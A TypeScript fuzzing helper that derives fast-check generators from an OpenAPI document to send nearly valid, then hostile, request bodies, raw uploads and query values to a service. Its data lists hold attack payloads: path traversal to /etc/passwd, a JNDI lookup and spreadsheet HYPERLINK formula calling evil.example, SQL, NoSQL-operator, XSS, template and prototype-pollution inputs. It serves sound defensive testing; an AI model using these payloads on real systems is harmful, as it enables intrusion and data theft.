// fast-check arbitraries derived from a service's OpenAPI document: bodies that are nearly valid
// (drawn from each operation's request schema), then made hostile (wrong types, missing or extra
// fields, NoSQL operators, prototype keys, oversized and deeply nested values, text that is not
// text), raw bodies for the text and spreadsheet imports, and path and query values.
import fc from 'fast-check';

export type Schema = {
  $ref?: string;
  type?: string;
  enum?: unknown[];
  oneOf?: Schema[];
  anyOf?: Schema[];
  allOf?: Schema[];
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  minItems?: number;
  maxItems?: number;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  pattern?: string;
  format?: string;
  default?: unknown;
  [k: string]: unknown;
};

export interface Parameter {
  name: string;
  in: 'path' | 'query' | 'header' | 'cookie';
  required?: boolean;
  schema?: Schema;
}

export interface Operation {
  method: string;
  /** The OpenAPI path, `{name}` for path parameters. */
  path: string;
  parameters: Parameter[];
  /** Content type → schema of the request body, in the document's order. */
  body: Array<{ type: string; schema: Schema }>;
  /** Whether the operation needs a key (else it is public). */
  secured: boolean;
  scope?: string;
}

export interface OpenApiDocument {
  paths: Record<string, Record<string, unknown>>;
  components?: { parameters?: Record<string, Parameter>; schemas?: Record<string, Schema> };
}

const METHODS = ['get', 'post', 'put', 'patch', 'delete'];

/** Every operation of a document, with its `$ref`s resolved. */
export function operationsOf(doc: OpenApiDocument): Operation[] {
  const deref = <T>(v: T & { $ref?: string }): T => {
    if (!v.$ref) return v;
    const [, , kind, name] = v.$ref.split('/');
    return (doc.components as Record<string, Record<string, T>>)[kind!]![name!]!;
  };
  const ops: Operation[] = [];
  for (const [path, item] of Object.entries(doc.paths)) {
    for (const method of METHODS) {
      const op = item[method] as
        | {
            parameters?: Array<Parameter & { $ref?: string }>;
            requestBody?: { content?: Record<string, { schema?: Schema }> };
            security?: unknown[];
            'x-highland-scope'?: string;
          }
        | undefined;
      if (!op) continue;
      ops.push({
        method,
        path,
        parameters: (op.parameters ?? []).map((p) => deref(p)),
        body: Object.entries(op.requestBody?.content ?? {}).map(([type, c]) => ({
          type,
          schema: c.schema ?? {},
        })),
        secured: (op.security ?? []).length > 0,
        scope: op['x-highland-scope'],
      });
    }
  }
  return ops;
}

// ---------------------------------------------------------------------------------------------
// Nearly valid values

const DAY_MS = 86_400_000;
const DATE_SHAPE = /^\^?\\d\{4\}-\\d\{2\}-\\d\{2\}\$?$/;
const isDateSchema = (s: Schema) =>
  s.format === 'date' || (typeof s.pattern === 'string' && DATE_SHAPE.test(s.pattern));

/** A real calendar date, mostly in the past (a few in the future, which some fields refuse). */
const calendarDate = fc
  .integer({ min: Date.UTC(1990, 0, 1) / DAY_MS, max: Math.floor(Date.now() / DAY_MS) + 30 })
  .map((d) => new Date(d * DAY_MS).toISOString().slice(0, 10));

/** Words that look like the domain's values, so that some generated bodies are accepted. */
const plainText = fc.oneof(
  fc.constantFrom('Acme Paints', 'Highland Tea Co', 'fresh tea', 'coatings', 'GB/T 1234-2020', 'ISO 9001'),
  fc.string({ minLength: 1, maxLength: 24 }),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }),
);

function withinLength(arb: fc.Arbitrary<string>, s: Schema): fc.Arbitrary<string> {
  const min = s.minLength ?? 0;
  const max = s.maxLength ?? Infinity;
  // Fitted rather than filtered: a filter that rarely passes makes fast-check spin forever.
  return arb.map((v) => {
    let out = v.length < min ? v.padEnd(min, 'x') : v;
    if (out.length > max) {
      out = out.slice(0, max);
      if (/[\ud800-\udbff]$/.test(out)) out = out.slice(0, -1);
    }
    return out;
  });
}

function safeRegExp(pattern: string): RegExp | undefined {
  try {
    return new RegExp(pattern);
  } catch {
    return undefined;
  }
}

/** Values the schema (nearly always) accepts. `seeds` are known-good values for this very schema. */
export function validish(schema: Schema, depth = 0): fc.Arbitrary<unknown> {
  const s = schema;
  if (s.enum?.length) return fc.constantFrom(...s.enum);
  const alternatives = s.oneOf ?? s.anyOf;
  if (alternatives?.length) return fc.oneof(...alternatives.map((a) => validish(a, depth + 1)));
  if (s.allOf?.length) return validish(Object.assign({}, ...s.allOf) as Schema, depth + 1);
  switch (s.type) {
    case 'object': {
      const props = s.properties ?? {};
      if (!Object.keys(props).length || depth > 6)
        return fc.dictionary(fc.string({ maxLength: 8 }), plainText, { maxKeys: 3 });
      const model = Object.fromEntries(Object.entries(props).map(([k, v]) => [k, validish(v, depth + 1)]));
      return fc.record(model, { requiredKeys: (s.required ?? []).filter((k) => k in props) });
    }
    case 'array': {
      const min = s.minItems ?? 0;
      const max = Math.min(s.maxItems ?? min + 3, min + 3);
      return fc.array(validish(s.items ?? {}, depth + 1), { minLength: min, maxLength: max });
    }
    case 'string': {
      if (isDateSchema(s)) return calendarDate;
      if (s.format === 'uri') return fc.webUrl();
      if (s.format === 'email') return fc.emailAddress();
      const re = typeof s.pattern === 'string' ? safeRegExp(s.pattern) : undefined;
      if (re) return withinLength(fc.stringMatching(re), s);
      return withinLength(plainText, s);
    }
    case 'integer':
      return fc.integer({ min: s.minimum ?? -1000, max: Math.min(s.maximum ?? 100_000, 1e9) });
    case 'number':
      return fc.double({ min: s.minimum ?? -1e6, max: s.maximum ?? 1e6, noNaN: true });
    case 'boolean':
      return fc.boolean();
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

// ---------------------------------------------------------------------------------------------
// Hostile values

const LONG = 'A'.repeat(70_000);
// String.prototype.isWellFormed is ES2024; the build's lib is ES2023.
const wellFormed = (s: string) => (s as string & { isWellFormed(): boolean }).isWellFormed();
export const TRAVERSALS = [
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '....//....//etc/passwd',
  '%252e%252e%252f',
  'file:///etc/passwd',
];
const HOSTILE_STRINGS = [
  ...TRAVERSALS,
  '\ud800',
  'a\udfffb',
  '\u0000',
  'nul\u0000byte',
  '\u202eevil',
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1+1)',
  '+1+1',
  '-1+1',
  '\tTAB',
  '\rCR',
  '<script>alert(1)</script>',
  "' OR '1'='1",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '$where',
  '$gt',
  '',
  '   ',
  '🙂'.repeat(400),
  LONG,
  'x'.repeat(301),
  'x'.repeat(2001),
  '9999-99-99',
  '2015-02-30',
  '1e309',
  'NaN',
  '-0',
];

/** Objects a document store would read as a query: `{"$gt": ""}` where a value was expected. */
export const NOSQL_OPERATORS: unknown[] = [
  { $gt: '' },
  { $ne: null },
  { $where: 'sleep(1000) || true' },
  { $regex: '.*' },
  { $in: ['a', 'b'] },
  { $exists: true },
  { $expr: { $eq: [1, 1] } },
  { $function: { body: 'function(){return true}', args: [], lang: 'js' } },
];

/** Objects with own `__proto__`, `constructor`, `prototype` keys (as JSON.parse makes them). */
export const PROTOTYPE_KEYS: unknown[] = [
  JSON.parse('{"__proto__":{"polluted":"yes"}}'),
  JSON.parse('{"constructor":{"prototype":{"polluted":"yes"}}}'),
  JSON.parse('{"prototype":{"polluted":"yes"}}'),
  JSON.parse('{"__proto__":{"toString":"not a function"}}'),
];

const nested = (depth: number): unknown => {
  let v: unknown = 'deep';
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
};

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 3, arbitrary: fc.constantFrom(...NOSQL_OPERATORS) },
  { weight: 2, arbitrary: fc.constantFrom(...PROTOTYPE_KEYS) },
  {
    weight: 3,
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      1e308,
      -1e308,
      2 ** 53 + 1,
      [],
      {},
      [null],
      ['a', 1, null],
      { a: 1 },
    ),
  },
  { weight: 1, arbitrary: fc.constantFrom(nested(64), nested(1000)) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

const hostileKey = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    '$where',
    '$gt',
    '$set',
    'a.b',
    '',
    '\ud800',
    'extra',
  ),
  fc.string({ maxLength: 12 }),
);

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

/** Paths to every value inside a JSON value (the root is []). */
function pathsOf(
  value: unknown,
  prefix: Array<string | number> = [],
  out: Array<Array<string | number>> = [],
) {
  out.push(prefix);
  if (prefix.length > 8) return out;
  if (Array.isArray(value)) value.forEach((v, i) => pathsOf(v, [...prefix, i], out));
  else if (value && typeof value === 'object')
    for (const k of Object.keys(value)) pathsOf((value as Record<string, unknown>)[k], [...prefix, k], out);
  return out;
}

/** A deep copy that keeps own `__proto__` keys (structuredClone and spreads would not). */
const copy = (v: unknown): Json => JSON.parse(JSON.stringify(v) ?? 'null') as Json;

function setOwn(obj: Record<string, unknown>, key: string, value: unknown) {
  Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true });
}

export type Mutation = { kind: string; body: unknown };

/** One hostile change to a nearly valid body. */
export function mutated(body: unknown): fc.Arbitrary<Mutation> {
  const paths = pathsOf(body);
  const at = fc.constantFrom(...paths);
  const apply = (path: Array<string | number>, f: (parent: Record<string, unknown>, key: string) => void) => {
    const root = { v: copy(body) } as Record<string, unknown>;
    let parent = root;
    let key = 'v';
    for (const p of path) {
      parent = parent[key] as Record<string, unknown>;
      key = String(p);
    }
    f(parent, key);
    return root.v;
  };
  const inner = paths.filter((p) => p.length > 0);
  const drop = inner.length
    ? [
        fc.constantFrom(...inner).map((path) => ({
          kind: `drop ${path.join('.')}`,
          body: apply(path, (parent, key) => {
            if (Array.isArray(parent)) parent.splice(Number(key), 1);
            else delete parent[key];
          }),
        })),
      ]
    : [];
  return fc.oneof(
    ...drop,
    fc.tuple(at, hostileValue).map(([path, v]) => ({
      kind: `replace ${path.join('.') || '(body)'}`,
      body: apply(path, (parent, key) => setOwn(parent, key, v)),
    })),
    fc.tuple(at, hostileKey, hostileValue).map(([path, k, v]) => ({
      kind: `add key ${JSON.stringify(k)} at ${path.join('.') || '(body)'}`,
      body: apply(path, (parent, key) => {
        const target = parent[key];
        if (target && typeof target === 'object' && !Array.isArray(target))
          setOwn(target as Record<string, unknown>, k, v);
        else setOwn(parent, key, { [k]: v });
      }),
    })),
    fc.tuple(at, fc.constantFrom(...NOSQL_OPERATORS)).map(([path, op]) => ({
      kind: `operator at ${path.join('.') || '(body)'}`,
      body: apply(path, (parent, key) => setOwn(parent, key, op)),
    })),
  );
}

// ---------------------------------------------------------------------------------------------
// Raw bodies

export interface RawBody {
  kind: string;
  contentType?: string;
  bytes?: Buffer;
  /** The JSON value the bytes encode, when they are plain JSON of it. */
  value?: unknown;
}

const INVALID_UTF8 = [
  Buffer.from([0xff]),
  Buffer.from([0xc3, 0x28]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
  Buffer.from([0xe2, 0x82]),
];
const MARK = 'FUZZMARK7Q';

/** A JSON body's bytes, or its bytes made hostile at the byte level. */
export function jsonRaw(value: unknown, contentType: string): fc.Arbitrary<RawBody> {
  const text = JSON.stringify(value) ?? 'null';
  return fc.oneof(
    {
      weight: 12,
      arbitrary: fc.constant<RawBody>({ kind: 'json', contentType, bytes: Buffer.from(text), value }),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(...INVALID_UTF8).map((bad) => {
        const marked = JSON.stringify(withMarkedString(value)) ?? `"${MARK}"`;
        const [head, ...rest] = marked.split(MARK);
        return {
          kind: 'invalid utf-8 in a string',
          contentType,
          bytes: Buffer.concat([Buffer.from(head!), bad, Buffer.from(rest.join(MARK))]),
        };
      }),
    },
    {
      weight: 1,
      arbitrary: fc.integer({ min: 0, max: Math.max(0, text.length - 1) }).map((n) => ({
        kind: 'truncated json',
        contentType,
        bytes: Buffer.from(text.slice(0, n)),
      })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        {
          kind: 'lone surrogate escape',
          contentType,
          bytes: Buffer.from(text.replace(/"([^"\\]*)"/, '"$1\\ud800"')),
        },
        {
          kind: 'oversized body',
          contentType,
          bytes: Buffer.from(JSON.stringify({ pad: 'x'.repeat(1_200_000) })),
        },
        { kind: 'deep arrays', contentType, bytes: Buffer.from('['.repeat(100_000) + ']'.repeat(100_000)) },
        {
          kind: 'deep objects',
          contentType,
          bytes: Buffer.from('{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000)),
        },
        {
          kind: 'duplicate keys',
          contentType,
          bytes: Buffer.from(text.replace(/^\{/, '{"a":1,"a":{"$gt":""},')),
        },
        {
          kind: 'bom',
          contentType,
          bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]),
        },
        { kind: 'empty', contentType, bytes: Buffer.alloc(0) },
        { kind: 'not json', contentType, bytes: Buffer.from('enterprise=x&product=y') },
        {
          kind: 'utf-16',
          contentType: `${contentType}; charset=utf-16`,
          bytes: Buffer.from(text, 'utf16le'),
        },
        { kind: 'text/plain', contentType: 'text/plain', bytes: Buffer.from(text) },
        { kind: 'no content type', bytes: Buffer.from(text) },
        { kind: 'nul bytes', contentType, bytes: Buffer.from(text.replace(/"([^"\\]*)"/, '"$1\u0000"')) },
      ),
    },
  );
}

/** The value with one string replaced by MARK (or MARK itself), to splice raw bytes in. */
function withMarkedString(value: unknown): unknown {
  const v = copy(value);
  const strings = pathsOf(v).filter(
    (p) => typeof p.reduce<unknown>((o, k) => (o as Record<string, unknown>)?.[k], v) === 'string',
  );
  if (!strings.length) return MARK;
  const path = strings[0]!;
  if (!path.length) return MARK;
  let o = v as Record<string, unknown>;
  for (const k of path.slice(0, -1)) o = o[k] as Record<string, unknown>;
  o[String(path.at(-1))] = MARK;
  return v;
}

const csvCell = fc.oneof(
  { weight: 4, arbitrary: plainText },
  {
    weight: 3,
    arbitrary: fc.constantFrom(...HOSTILE_STRINGS.filter((s) => s.length < 5000 && wellFormed(s))),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom('"', '"unbalanced', 'a""b', '"a"b"', '\n', '\r\n', ',', ';', '\\'),
  },
  { weight: 1, arbitrary: calendarDate },
);
const csvLine = fc.array(csvCell, { minLength: 0, maxLength: 12 }).map((cells) => cells.join(','));

/** Text bodies (CSV, NDJSON, plain): a header and rows, garbled lines, bytes that are not text. */
export function textRaw(contentType: string, header?: string): fc.Arbitrary<RawBody> {
  const lines = fc.array(csvLine, { minLength: 0, maxLength: 30 });
  const rows = lines.map((ls) => [header ?? '', ...ls].join('\n'));
  return fc.oneof(
    { weight: 6, arbitrary: rows.map((t) => ({ kind: 'text rows', contentType, bytes: Buffer.from(t) })) },
    {
      weight: 2,
      arbitrary: fc.array(fc.jsonValue({ maxDepth: 3 }), { maxLength: 10 }).map((vs) => ({
        kind: 'ndjson',
        contentType,
        bytes: Buffer.from(vs.map((v) => JSON.stringify(v)).join('\n')),
      })),
    },
    {
      weight: 1,
      arbitrary: fc.tuple(rows, fc.constantFrom(...INVALID_UTF8)).map(([t, bad]) => ({
        kind: 'invalid utf-8 in text',
        contentType,
        bytes: Buffer.concat([
          Buffer.from(t.slice(0, t.length >> 1)),
          bad,
          Buffer.from(t.slice(t.length >> 1)),
        ]),
      })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        {
          kind: 'one long line',
          contentType,
          bytes: Buffer.from(`${header ?? ''}\n${'x,'.repeat(200_000)}`),
        },
        {
          kind: 'many columns',
          contentType,
          bytes: Buffer.from(`${'c,'.repeat(20_000)}\n${'1,'.repeat(20_000)}`),
        },
        {
          kind: 'many empty lines',
          contentType,
          bytes: Buffer.from(`${header ?? ''}${'\n'.repeat(100_000)}`),
        },
        { kind: 'lone surrogate escape', contentType, bytes: Buffer.from(`${header ?? ''}\n"\\ud800",x`) },
        { kind: 'bom', contentType, bytes: Buffer.from(`\ufeff${header ?? ''}\nx`) },
        { kind: 'nul', contentType, bytes: Buffer.from(`${header ?? ''}\n\u0000,\u0000`) },
        { kind: 'empty', contentType, bytes: Buffer.alloc(0) },
        { kind: 'oversized text', contentType, bytes: Buffer.alloc(51 * 1024 * 1024, 0x61) },
      ),
    },
    {
      weight: 1,
      arbitrary: fc
        .uint8Array({ maxLength: 300 })
        .map((b) => ({ kind: 'random bytes', contentType, bytes: Buffer.from(b) })),
    },
  );
}

/** Spreadsheet bodies: real workbooks given as `workbooks`, cut short, bit-flipped or not zips at all. */
export function binaryRaw(contentType: string, workbooks: Buffer[]): fc.Arbitrary<RawBody> {
  const book = fc.constantFrom(...workbooks);
  return fc.oneof(
    { weight: 3, arbitrary: book.map((b) => ({ kind: 'workbook', contentType, bytes: b })) },
    {
      weight: 2,
      arbitrary: fc.tuple(book, fc.double({ min: 0, max: 1, noNaN: true })).map(([b, f]) => ({
        kind: 'truncated workbook',
        contentType,
        bytes: b.subarray(0, Math.floor(b.length * f)),
      })),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(
          book,
          fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 20 }),
        )
        .map(([b, flips]) => {
          const out = Buffer.from(b);
          for (const [i, v] of flips) out[i % out.length] = v;
          return { kind: 'corrupted workbook', contentType, bytes: out };
        }),
    },
    {
      weight: 1,
      arbitrary: fc
        .uint8Array({ maxLength: 2000 })
        .map((b) => ({ kind: 'random bytes', contentType, bytes: Buffer.from(b) })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        { kind: 'zip magic only', contentType, bytes: Buffer.from('PK\u0003\u0004') },
        { kind: 'empty', contentType, bytes: Buffer.alloc(0) },
        { kind: 'csv sent as xlsx', contentType, bytes: Buffer.from('Symbol,Title\nG/TBT/N/X/1,x\n') },
      ),
    },
  );
}

// ---------------------------------------------------------------------------------------------
// Path and query values

/** Path segments, already percent-encoded as they go on the request line. */
export function pathValue(known: () => string[]): fc.Arbitrary<string> {
  return fc.oneof(
    {
      weight: 5,
      arbitrary: fc
        .constant(null)
        .map(() => known())
        .chain((ids) => (ids.length ? fc.constantFrom(...ids) : fc.constant('nothing-here')))
        .map(encodeURIComponent),
    },
    { weight: 2, arbitrary: fc.string({ minLength: 1, maxLength: 30 }).map(encodeURIComponent) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        '..%2f..%2fetc%2fpasswd',
        '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
        '%2e%2e',
        '..',
        '.',
        '%252e%252e%252f',
        '%2fetc%2fpasswd',
        '..%5c..%5cwindows',
        '%00',
        'x%00.csv',
        '%',
        '%zz',
        '%c0%ae%c0%ae%2f',
        '%ed%a0%80',
        '%ff',
        '__proto__',
        'constructor',
        '%24where',
        `${'a'.repeat(5000)}`,
        '%F0%9F%99%82',
        'a%20b',
      ),
    },
  );
}

/** A query string for an operation: its own parameters with odd values, repeated, or operators. */
export function queryString(params: Parameter[]): fc.Arbitrary<string> {
  const names = [...params.filter((p) => p.in === 'query').map((p) => p.name), 'extra'];
  const value = fc.oneof(
    plainText.map(encodeURIComponent),
    calendarDate,
    fc.constantFrom(
      '-1',
      '0',
      '1e309',
      'NaN',
      '99999999999999999999',
      '1.5',
      'true',
      '',
      '%',
      '%ff',
      '%ed%a0%80',
      '..%2f..%2fetc%2fpasswd',
    ),
    fc
      .constantFrom(...HOSTILE_STRINGS.filter((s) => s.length < 3000 && wellFormed(s)))
      .map(encodeURIComponent),
  );
  const pair = fc.oneof(
    { weight: 6, arbitrary: fc.tuple(fc.constantFrom(...names), value).map(([n, v]) => `${n}=${v}`) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.constantFrom(...names),
          fc.constantFrom('[$gt]', '[$ne]', '[]', '[__proto__][x]', '.__proto__'),
        )
        .map(([n, op]) => `${n}${encodeURIComponent(op)}=1`),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom('__proto__[polluted]=1', 'constructor[prototype][polluted]=1', '%24where=1'),
    },
  );
  return fc.array(pair, { maxLength: 4 }).map((ps) => (ps.length ? `?${ps.join('&')}` : ''));
}
